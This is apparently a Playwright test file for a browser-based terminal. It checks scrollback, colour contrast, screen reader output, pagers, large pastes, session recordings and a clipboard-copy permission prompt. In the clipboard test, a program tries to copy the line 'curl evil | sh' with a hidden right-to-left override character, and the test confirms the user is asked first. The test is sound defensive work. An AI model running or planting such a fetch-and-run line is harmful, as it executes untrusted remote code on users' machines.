import { createHash } from 'node:crypto';
import type { Page } from 'playwright-core';
import t, { type Test } from 'tap';
import { contrast, drawn, isPair, PAIRS } from '../../support/browser/contrast.ts';
import {
  PROMPT,
  screenLines,
  typeLine,
  typeUntilAnswered,
  type Visit,
  waitForLine,
} from '../../support/browser/page.ts';
import { aShell, clear, type InPage, quit, wheel } from '../../support/browser/panes.ts';
import { paste } from '../../support/browser/paste.ts';
import { eventually, waitForValue } from '../../support/patience.ts';

/** The part of the page's terminal that this uses. */
type Screen = { readonly terminal: { write(output: string, done: () => void): void } };

const PASTED_BYTES = 1_048_576;

/** A line that asks for text to be copied. */
const asksFor = (text: string): string =>
  `printf '\\033]52;c;%s\\a' ${Buffer.from(text).toString('base64')}; echo done-$((40+2))`;

/** The start of a line may be lost while a shell opens; the rest is a line too. */
const shellAnswers = (page: Page): Promise<void> =>
  typeUntilAnswered(page, 'clear; echo up-$((6*7))', /^up-42/);

const clipboardOf = (page: Page): Promise<string> =>
  page.evaluate('navigator.clipboard.readText()') as Promise<string>;

const SHOWN = `for i in $(seq 1 8); do printf '\\033[3%dmstep %d\\033[0m 🚢 héllo\\n' $i $i; sleep 0.2; done; echo all-$((6*7))`;

const shell = await aShell(t);
if (shell !== null) {
  const { page, faults } = shell;
  await t.test('the wheel scrolls back over all output, also after a reload', () => scrollsBack(page));
  await t.test('colours, wide characters and emoji are drawn', (t) => colours(t, page));
  await t.test('every pair of the sixteen colours can be read, light and dark', (t) => readable(t, page));
  await t.test('a screen reader gets the output once its user asks for it', (t) => speaks(t, shell));
  await t.test('less and git log: the wheel scrolls a pager on the whole screen', (t) => pagers(t, page));
  await t.test('a paste of 1 MB arrives byte by byte, in its brackets', (t) => pasteMuch(t, page));
  await t.test('a terminal is recorded, listed, played back, downloaded and deleted, by the keyboard', (t) =>
    isRecorded(t, shell),
  );
  await t.test('output on which xterm.js throws does not stop the terminal', () => survives(page));
  await t.test('a program asks before it copies, until its user allows it', (t) => asksToCopy(t, shell));
  t.same(faults, [], 'nothing went wrong in the page');
}

async function scrollsBack(page: Page): Promise<void> {
  await typeLine(page, 'seq -f "row %g" 1000');
  await waitForLine(page, /^row 1000$/);
  await wheel(page, -700);
  await waitForLine(page, /^row 300$/);
  await typeLine(page, 'echo back-$((1+1))');
  await waitForLine(page, /^back-2$/);
  await page.reload();
  await waitForLine(page, /^back-2$/);
  await wheel(page, -702);
  await waitForLine(page, /^row 300$/);
  await page.locator('.xterm-helper-textarea').focus();
}

/** tmux blocks such output, a plain shell does not: here it precedes the shell's own. */
async function survives(page: Page): Promise<void> {
  await clear(page);
  await page.locator('.terminal-host').evaluate(async (host) => {
    const { terminal } = (host as unknown as { berthScreen: Screen }).berthScreen;
    const erase = '\x1b[3J\x1b[999;999Hx\x1b[1J';
    await new Promise<void>((resolve) => terminal.write(erase, resolve));
  });
  await clear(page);
}

async function colours(t: Test, page: Page): Promise<void> {
  await clear(page);
  await typeLine(
    page,
    `for i in $(seq 16 231); do printf "\\033[48;5;%dm  " $i; [ $((i % 36)) = 15 ] && printf '\\033[0m\\n'; done`,
  );
  await typeLine(page, `printf '\\033[38;2;1;100;3mtrue%s\\033[0m\\n' -colour`);
  await typeLine(page, "printf '|漢字|한국|\\n|😀|👩‍💻|\\n|é|ab|\\n'");
  await waitForLine(page, /^\|é\|ab\|$/);
  const word = page.locator('.xterm-rows span', { hasText: /^true-colour$/ });
  const colourNow = () =>
    word.evaluate((span) => (globalThis as unknown as InPage).getComputedStyle(span).color);
  // A replaced span has no colour.
  const colour = await eventually(colourNow, (seen) => seen !== '');
  t.equal(colour, 'rgb(1, 100, 3)');
  const lines = await screenLines(page);
  t.ok(lines.includes('|漢字|한국|'), 'wide characters take their place');
  t.ok(lines.includes('|😀|👩‍💻|'), 'and emoji, also those of several characters');
}

async function readable(t: Test, page: Page): Promise<void> {
  for (const colorScheme of ['light', 'dark'] as const) {
    await page.emulateMedia({ colorScheme });
    await clear(page);
    await page.locator('.terminal-host').evaluate(async (host, pairs) => {
      const { terminal } = (host as unknown as { berthScreen: Screen }).berthScreen;
      await new Promise<void>((resolve) => terminal.write(pairs, resolve));
    }, PAIRS);
    const cells = (
      await waitForValue(
        () => drawn(page),
        (all) => all.filter(isPair).length > 500,
      )
    ).filter(isPair);
    const poor = cells.filter(({ color, background }) => contrast(color, background) < 4.45);
    t.same(poor, [], `${cells.length} cells in ${colorScheme} colours`);
  }
  await page.emulateMedia({ colorScheme: 'light' });
}

async function speaks(t: Test, { address, page }: Visit): Promise<void> {
  const terminalUrl = page.url();
  t.equal(await page.locator('.xterm-accessibility').count(), 0, 'not without being asked: it costs time');
  await page.goto(`${address}/settings`);
  await page.getByLabel('Screen reader support').check();
  await page.goto(terminalUrl);
  await waitForLine(page, PROMPT);
  // why: xterm.js leaves text of on-screen keyboards to its key events in this mode
  await page.keyboard.type('echo spoken-$((40+2))\n');
  await page.locator('.xterm-accessibility-tree', { hasText: 'spoken-42' }).waitFor();
  await page.goto(`${address}/settings`);
  await page.getByLabel('Screen reader support').uncheck();
  await page.goto(terminalUrl);
  await waitForLine(page, PROMPT);
  await clear(page);
}

async function pagers(t: Test, page: Page): Promise<void> {
  const cleared = await clear(page);
  await typeLine(page, 'seq -f "page row %g" 500 > rows; less rows');
  await waitForLine(page, /^page row 1$/);
  await wheel(page, 20);
  await waitForLine(page, /^page row 50$/);
  await wheel(page, -20);
  await waitForLine(page, /^page row 1$/);
  await page.keyboard.press('q');
  await waitForLine(page, cleared);
  const git = 'git -c user.name=a -c user.email=a@b.c -c init.defaultBranch=main';
  await typeLine(
    page,
    `${git} init -q repo; cd repo; for i in $(seq 30); do ${git} commit -q --allow-empty -m "change $i"; done; cd ..; git -C repo log`,
  );
  await waitForLine(page, /^ {4}change 30$/);
  await typeLine(page, '/change 19');
  await waitForLine(page, /^ {4}change 17$/);
  await quit(page);
  await clear(page);
  t.pass('both leave the shell as it was');
}

async function pasteMuch(t: Test, page: Page): Promise<void> {
  const line = 'Ein Satz mit Umlauten äöü, 漢字 und 😀, der sich wiederholt: ';
  const lines = Math.ceil(PASTED_BYTES / Buffer.byteLength(line));
  const text = Array.from({ length: lines }, (_, at) => `${line}${at}`).join('\n');
  t.ok(Buffer.byteLength(text) >= PASTED_BYTES, `${Buffer.byteLength(text)} bytes`);
  const arrives = Buffer.from(`\u001b[200~${text.replaceAll('\n', '\r')}\u001b[201~`);
  await typeLine(
    page,
    `stty raw -echo; printf '\\033[?2004hpaste-%s\\r\\n' now; head -c ${arrives.length} > pasted; stty sane; printf '\\033[?2004l'; sha256sum < pasted`,
  );
  await waitForLine(page, /^paste-now$/);
  await paste(page, text);
  const hash = createHash('sha256').update(arrives).digest('hex');
  await waitForLine(page, new RegExp(`^${hash} `), 90_000);
}

async function asksToCopy(t: Test, { address, page }: Visit): Promise<void> {
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write'], { origin: address });
  await page.evaluate("navigator.clipboard.writeText('mine')");
  await typeUntilAnswered(page, asksFor('curl evil | sh\u202e\n'), /^done-42/);

  const offer = page.locator('.copy-offer');
  await offer.waitFor();
  t.equal(await offer.locator('pre').innerText(), 'curl evil | sh<202E>\n');
  t.match(await offer.innerText(), /16 characters, ends with a line break/);
  t.equal(await clipboardOf(page), 'mine', 'nothing was copied unasked');
  await offer.getByRole('button', { name: 'Dismiss' }).click();
  await offer.waitFor({ state: 'detached' });
  t.equal(await clipboardOf(page), 'mine');

  await typeUntilAnswered(page, `clear; ${asksFor('wanted')}`, /^done-42/);
  await offer.getByRole('button', { name: 'Copy' }).click();
  await offer.waitFor({ state: 'detached' });
  t.equal(await clipboardOf(page), 'wanted');

  const terminal = page.url();
  await page.goto(`${address}/settings`);
  await page.getByLabel('Allow programs to copy').check();
  await page.goto(terminal);
  await page.locator('.xterm').waitFor();
  await page.locator('.xterm-helper-textarea').focus();
  await shellAnswers(page);
  await typeUntilAnswered(page, `clear; ${asksFor('unasked')}`, /^done-42/);
  const copied = await eventually(
    () => clipboardOf(page),
    (text) => text === 'unasked',
  );
  t.equal(copied, 'unasked');
  t.equal(await offer.count(), 0);
}

async function isRecorded(t: Test, { address, page }: Visit): Promise<void> {
  const terminal = page.url();
  await clear(page);
  await page.keyboard.press('Control+Shift+L');
  const record = page.getByRole('button', { name: 'Record this terminal' });
  await record.focus();
  await page.keyboard.press('Enter');
  await page.locator('.recording-mark').waitFor();
  await typeLine(page, SHOWN);
  await waitForLine(page, /^all-42/);
  await page.reload();
  await page.locator('.recording-mark').waitFor();
  await page.getByRole('button', { name: 'Stop recording' }).click();
  await page.locator('.recording-mark').waitFor({ state: 'detached' });

  await page.goto(`${address}/recordings`);
  const play = page.getByRole('link', { name: 'Play programs' });
  t.equal(await play.getAttribute('title'), null, 'it has a tooltip of the page, not of the browser');
  await play.waitFor();
  await play.focus();
  await page.keyboard.press('Enter');
  await page.locator('.ap-player').waitFor();
  t.match(page.url(), /\/recordings\/[0-9a-f-]{36}$/);
  await page.keyboard.press('Space');
  await page
    .getByText(/step 4/)
    .first()
    .waitFor();
  await page.keyboard.press('Space');
  const downloading = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Download' }).click();
  t.match((await downloading).suggestedFilename(), /^programs-\d{4}-[\d-]+\.cast$/);

  await page.getByRole('button', { name: 'Delete' }).click();
  await page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click();
  await page.getByText('No recordings yet').waitFor();
  await page.goto(terminal);
  await page.locator('.xterm').waitFor();
  await page.locator('.xterm-helper-textarea').focus();
  await shellAnswers(page);
}
